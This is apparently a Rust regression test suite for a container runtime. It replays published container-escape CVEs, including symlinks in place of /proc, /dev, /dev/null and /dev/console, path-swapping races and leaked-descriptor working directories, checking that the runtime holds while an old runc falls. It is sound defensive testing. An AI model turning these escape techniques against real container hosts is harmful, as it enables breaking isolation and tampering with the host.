//! Replays of published container escapes. Each attack is a function of the runtime it is led against: ours must hold,
//! and where the runtime installed from Debian is one that is known to fall, it must fall, or the replay proves nothing.
//!
//! CVE-2019-5736 (the runtime's own executable) is in `own_executable.rs`.

#![expect(clippy::unwrap_used, reason = "a test says so by a panic")]

mod bundle;

use std::fs;
use std::io::Write;
use std::os::unix::fs::symlink;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bundle::Bundle;
use rustix::fs::{CWD, RenameFlags};
use serde_json::{Value, json};

/// What an attack got; nothing, if the runtime held.
type Loot = Option<String>;

/// Debian 12's runc, which has the holes of 2024 (but for CVE-2024-21626) and later.
fn old_runc() -> Option<PathBuf> {
    let exe = Path::new("/usr/sbin/runc");
    let version = Command::new(exe).arg("--version").output().ok()?;
    String::from_utf8_lossy(&version.stdout).starts_with("runc version 1.1.5").then(|| exe.to_owned())
}

fn holds(attack: impl Fn(&Path) -> Loot) {
    if let Some(loot) = attack(&bundle::runtime()) {
        panic!("the attack has succeeded: {loot}");
    }
}

/// Ours holds; and the attack is a real one.
fn holds_where_runc_fell(attack: impl Fn(&Path) -> Loot) {
    holds(&attack);
    if let Some(runc) = old_runc() {
        assert!(attack(&runc).is_some(), "the attack does not bite: runc 1.1.5 held as well");
    }
}

/// The same for an attack that is a race: the other runtime may win it on a machine that has little time for both.
fn holds_where_runc_fell_in_a_race(attack: impl Fn(&Path) -> Loot) {
    holds(&attack);
    if old_runc().is_some_and(|runc| attack(&runc).is_none()) {
        // Seen where a test is looked at by itself.
        std::io::stderr().write_all(b"runc 1.1.5 was not caught in time\n").unwrap();
    }
}

/// A container that runs `script`, with docker's kind of masks.
fn victim(exe: &Path, script: &str) -> Bundle {
    let bundle = Bundle::of(exe, &["/bin/sh", "-c", script]);
    bundle.spec(|spec| {
        spec["linux"]["maskedPaths"] = json!(["/proc/interrupts", "/proc/keys"]);
        spec["linux"]["readonlyPaths"] = json!(["/proc/sys", "/proc/sysrq-trigger"]);
    });
    bundle
}

fn root(bundle: &Bundle) -> PathBuf {
    Path::new(bundle.dir()).join("rootfs")
}

/// The container's output, or nothing if the runtime refused.
fn run(bundle: &Bundle) -> Option<String> {
    let done = bundle.run(&["run", "--bundle", bundle.dir(), &bundle.id]);
    (done.code == 0).then_some(done.out)
}

fn mounts(spec: &mut Value) -> &mut Vec<Value> {
    spec["mounts"].as_array_mut().unwrap()
}

/// Exchanges two paths, over and over, until dropped.
struct Swapper {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Swapper {
    fn new(one: PathBuf, other: PathBuf) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                rustix::fs::renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE).unwrap();
                std::thread::yield_now();
            }
        });
        Self { stop, thread: Some(thread) }
    }
}

impl Drop for Swapper {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take().unwrap().join().unwrap();
    }
}

/// A race is tried more than once: for as long as may be needed where it is known to succeed, some times where not.
fn race(exe: &Path, mut attempt: impl FnMut() -> Loot) -> Loot {
    let known_to_fall = exe != bundle::runtime();
    let since = Instant::now();
    let mut tries = 0;
    while if known_to_fall { since.elapsed() < Duration::from_mins(1) } else { tries < 15 } {
        let loot = attempt();
        if loot.is_some() {
            return loot;
        }
        tries += 1;
    }
    None
}

/// CVE-2019-16884: an image's volume at /proc, so that what confines the process is written to a forgery.
#[test]
fn a_volume_in_place_of_proc() {
    holds(|exe| {
        let mut loot = None;
        for (kept, typ) in [(true, "bind"), (false, "bind"), (false, "tmpfs")] {
            let bundle = victim(exe, "ls /proc");
            let forged = bundle.path("forged");
            fs::create_dir_all(format!("{forged}/self/attr")).unwrap();
            fs::write(format!("{forged}/self/attr/exec"), "").unwrap();
            bundle.spec(|spec| {
                if !kept {
                    mounts(spec).retain(|m| m["destination"] != "/proc");
                }
                let options = if typ == "bind" { json!(["bind"]) } else { json!([]) };
                let volume =
                    json!({"destination": "/proc", "type": typ, "source": forged, "options": options});
                mounts(spec).push(volume);
            });
            if let Some(out) = run(&bundle) {
                loot = Some(format!("{typ} at /proc ({kept}): {out}"));
            }
        }
        loot
    });
}

/// CVE-2019-19921 and, once more, CVE-2023-27561: /proc or /sys of the image is a link, so that the masks fall elsewhere.
#[test]
fn a_link_in_place_of_proc() {
    holds(|exe| {
        let script = "wc -c </proc/interrupts; wc -c </forged/interrupts";
        for (name, target) in [("proc", "forged"), ("proc", "/forged"), ("sys", "/forged")] {
            let bundle = victim(exe, script);
            fs::create_dir(root(&bundle).join("forged")).unwrap();
            fs::remove_dir(root(&bundle).join(name)).unwrap();
            symlink(target, root(&bundle).join(name)).unwrap();
            bundle.spec(|spec| {
                mounts(spec).push(
                    json!({"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["ro"]}),
                );
            });
            if let Some(out) = run(&bundle) {
                return Some(format!("{name} is a link to {target}: {out}"));
            }
        }
        race(exe, || {
            let bundle = victim(exe, "cat /proc/interrupts /forged/interrupts 2>/dev/null; exit 0");
            fs::create_dir(root(&bundle).join("forged")).unwrap();
            symlink("forged", root(&bundle).join("link")).unwrap();
            let swapper = Swapper::new(root(&bundle).join("proc"), root(&bundle).join("link"));
            let out = run(&bundle);
            drop(swapper);
            out.filter(|o| o.contains("CPU0"))
        })
    });
}

/// CVE-2021-30465, CVE-2024-45310: while a mount point is made, a part of its path becomes a link out of the root.
#[test]
fn a_destination_that_becomes_a_link_makes_nothing_on_the_host() {
    holds_where_runc_fell_in_a_race(|exe| {
        race(exe, || {
            let bundle = victim(exe, "cat /proc/self/mountinfo");
            let outside = PathBuf::from(bundle.path("outside"));
            fs::create_dir(&outside).unwrap();
            fs::write(bundle.path("source"), "").unwrap();
            fs::create_dir(root(&bundle).join("swap")).unwrap();
            symlink(&outside, root(&bundle).join("link")).unwrap();
            bundle.spec(|spec| {
                for n in 0..8 {
                    let destination = format!("/swap/{n}/file");
                    let source = bundle.path("source");
                    mounts(spec)
                        .push(json!({"destination": destination, "source": source, "options": ["bind"]}));
                }
            });
            let swapper = Swapper::new(root(&bundle).join("swap"), root(&bundle).join("link"));
            let out = run(&bundle);
            drop(swapper);
            let made: Vec<_> = fs::read_dir(&outside).unwrap().flatten().map(|e| e.file_name()).collect();
            // What lies where the link leads, inside of the root, is the container's own affair.
            let escaped = out.filter(|o| o.lines().any(|l| l.contains(" /oldroot") || l.contains("/.pivot")));
            if made.is_empty() { escaped } else { Some(format!("made on the host: {made:?}")) }
        })
    });
}

/// CVE-2022-29162: a capability that an exec is given must not be an inheritable one.
#[test]
fn an_execs_capability_is_not_inheritable() {
    holds(|exe| {
        let bundle = Bundle::of(exe, &["/bin/sleep", "1000"]);
        bundle.run(&["run", "-d", "--bundle", bundle.dir(), &bundle.id]);
        let words = ["exec", "--cap", "CAP_NET_RAW", &bundle.id, "grep", "Cap", "/proc/self/status"];
        let out = bundle.good(&words);
        assert!(out.contains("CapEff:\t0000000000082022") || out.contains("CapBnd:"), "{out}");
        let clean =
            ["CapInh:\t0000000000000000", "CapAmb:\t0000000000000000"].iter().all(|l| out.contains(l));
        (!clean).then_some(out)
    });
}

/// CVE-2023-25809: with a user namespace and the host's cgroup namespace, the cgroups mounted read-only were writable.
#[test]
fn a_user_namespaces_cgroups_stay_read_only() {
    holds(|exe| {
        let script = "for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/escaped 2>/dev/null && echo $d; done; exit 0";
        let bundle = victim(exe, script);
        bundle.spec(|spec| {
            let map = json!([{"containerID": 0, "hostID": 0, "size": 65536}]);
            spec["linux"]["uidMappings"] = map.clone();
            spec["linux"]["gidMappings"] = map;
            spec["linux"]["namespaces"].as_array_mut().unwrap().push(json!({"type": "user"}));
            mounts(spec)
                .push(json!({"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["ro"]}));
            mounts(spec).push(json!({"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup",
                "options": ["nosuid", "noexec", "nodev", "relatime", "ro"]}));
        });
        let made = bundle.run(&["run", "--bundle", bundle.dir(), &bundle.id]);
        assert_eq!(made.code, 0, "{}", made.err);
        (!made.out.is_empty()).then_some(made.out)
    });
}

/// CVE-2024-21626: a working directory through a descriptor that the runtime left open.
#[test]
fn a_working_directory_through_a_descriptor() {
    holds(|exe| {
        let marker = tempfile::NamedTempFile::new().unwrap();
        fs::write(marker.path(), "loot").unwrap();
        let up = "../".repeat(12);
        let script = format!("cat {up}{}; exit 0", marker.path().display());
        let sleeping = Bundle::of(exe, &["/bin/sleep", "1000"]);
        sleeping.run(&["run", "-d", "--bundle", sleeping.dir(), &sleeping.id]);
        for number in 3..16 {
            let cwd = format!("/proc/self/fd/{number}");
            let bundle = victim(exe, &script);
            bundle.spec(|spec| spec["process"]["cwd"] = json!(cwd));
            let exec = sleeping.run(&["exec", "--cwd", &cwd, &sleeping.id, "/bin/sh", "-c", &script]);
            for out in [run(&bundle), Some(exec.out)].into_iter().flatten() {
                if out.contains("loot") {
                    return Some(cwd);
                }
            }
        }
        None
    });
}

/// CVE-2025-31133: a link in place of /dev/null, so that masking shows its target, writable, instead of nothing.
#[test]
fn a_link_in_place_of_the_null_device() {
    holds_where_runc_fell(|exe| {
        let bundle = victim(exe, "cat /proc/keys");
        fs::write(root(&bundle).join("etc/target"), "loot").unwrap();
        let dev = bundle.path("dev");
        fs::create_dir(&dev).unwrap();
        symlink("/etc/target", format!("{dev}/null")).unwrap();
        bundle.spec(|spec| {
            mounts(spec).retain(|m| !m["destination"].as_str().unwrap().starts_with("/dev"));
            mounts(spec).push(json!({"destination": "/dev", "source": dev, "options": ["bind"]}));
        });
        run(&bundle).filter(|out| out.contains("loot"))
    });
}

/// CVE-2025-52565: a link in place of /dev/console, so that its target is truncated and covered by the terminal.
#[test]
fn a_link_in_place_of_the_console() {
    holds_where_runc_fell(|exe| {
        let bundle = victim(exe, "sleep 1000");
        let target = root(&bundle).join("etc/target");
        fs::write(&target, "precious").unwrap();
        symlink("/etc/target", root(&bundle).join("dev/console")).unwrap();
        bundle.spec(|spec| {
            mounts(spec).retain(|m| m["destination"] != "/dev");
            fs::create_dir(root(&bundle).join("dev/pts")).unwrap();
            spec["process"]["terminal"] = json!(true);
        });
        let socket = bundle.path("console.sock");
        // The terminal stays in the socket's queue, unread and open.
        let _listener = UnixListener::bind(&socket).unwrap();
        let words = ["run", "-d", "--console-socket", &socket, "--bundle", bundle.dir(), &bundle.id];
        let done = bundle.run(&words);
        let content = fs::read_to_string(&target).unwrap();
        (content != "precious").then(|| format!("the link's target is now {content:?}; {done:?}"))
    });
}

/// CVE-2025-52881: a mount that is moved into /proc, so that what the runtime writes there goes to a forgery.
#[test]
fn a_mount_that_is_led_into_proc() {
    holds(|exe| {
        let attempt = |target: &str, racing: bool| {
            let bundle = victim(exe, "cat /proc/sys/net/ipv4/ip_forward; cat /proc/self/mountinfo");
            let (swap, link) = (root(&bundle).join("swap"), root(&bundle).join("link"));
            fs::create_dir(&swap).unwrap();
            symlink(target, &link).unwrap();
            if !racing {
                rustix::fs::renameat_with(CWD, &swap, CWD, &link, RenameFlags::EXCHANGE).unwrap();
            }
            bundle.spec(|spec| {
                spec["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
                mounts(spec).push(json!({"destination": "/swap", "type": "tmpfs", "source": "tmpfs"}));
            });
            let swapper = racing.then(|| Swapper::new(swap, link));
            let out = run(&bundle);
            drop(swapper);
            // What is mounted in /proc besides the masks was led there.
            let own = ["/proc", "/proc/sys", "/proc/interrupts", "/proc/keys", "/proc/sysrq-trigger"];
            let led = |line: &str| {
                let point = line.split(' ').nth(4).unwrap_or_default();
                point.starts_with("/proc")
                    && (!own.contains(&point) || point == "/proc/sys" && !line.contains(" - proc "))
            };
            out.filter(|o| !o.starts_with("1\n") || o.lines().any(led))
        };
        for target in ["/proc/sys/net/ipv4", "proc/sys", "/proc/self/attr"] {
            let loot = attempt(target, false);
            if loot.is_some() {
                return loot;
            }
        }
        let loot = race(exe, || attempt("/proc/sys/net/ipv4", true));
        if loot.is_some() {
            return loot;
        }
        // A mount straight into /proc is the same without the detour.
        for destination in ["/proc/sys/net", "/proc/self/attr", "/proc/sysrq-trigger"] {
            let bundle = victim(exe, "true");
            let source = bundle.path("forged");
            fs::create_dir(&source).unwrap();
            bundle.spec(|spec| {
                mounts(spec).push(json!({"destination": destination, "source": source, "options": ["bind"]}));
            });
            if run(&bundle).is_some() {
                return Some(format!("mounted at {destination}"));
            }
        }
        None
    });
}

/// CVE-2026-41579: /dev of the image is a link to a directory of the host, where devices and links are then made.
#[test]
fn a_link_in_place_of_dev() {
    holds_where_runc_fell(|exe| {
        let mut loot = None;
        for relative in [false, true] {
            let bundle = victim(exe, "true");
            let outside = PathBuf::from(bundle.path("outside"));
            fs::create_dir(&outside).unwrap();
            fs::write(outside.join("ptmx"), "precious").unwrap();
            fs::remove_dir(root(&bundle).join("dev")).unwrap();
            let target = if relative { Path::new("../outside") } else { &outside };
            symlink(target, root(&bundle).join("dev")).unwrap();
            run(&bundle);
            let names: Vec<_> = fs::read_dir(&outside).unwrap().flatten().map(|e| e.file_name()).collect();
            let kept = fs::read_to_string(outside.join("ptmx")).is_ok_and(|t| t == "precious");
            if names.len() != 1 || !kept {
                loot = Some(format!("the directory of the host has {names:?}, ptmx kept: {kept}"));
            }
        }
        loot
    });
}
